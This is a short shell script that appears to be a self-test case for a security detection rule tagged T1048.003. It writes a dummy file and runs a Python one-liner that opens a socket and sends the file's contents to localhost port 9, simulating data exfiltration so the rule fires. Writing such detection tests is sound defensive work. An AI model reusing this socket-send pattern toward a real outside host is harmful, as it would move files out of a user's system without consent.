#!/bin/sh
# rule: Data packed or sent by code on a command line
# technique: T1048.003
# case: Python's code sends a file to nobody, over a connection and by HTTP
# needs: python3

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
. "${0%/*}/../undo.inc"
outside
echo text > file
python3 -c "import socket; s=socket.socket(); s.connect(('127.0.0.1',9)); s.send(open('file','rb').read())" 2> /dev/null
true
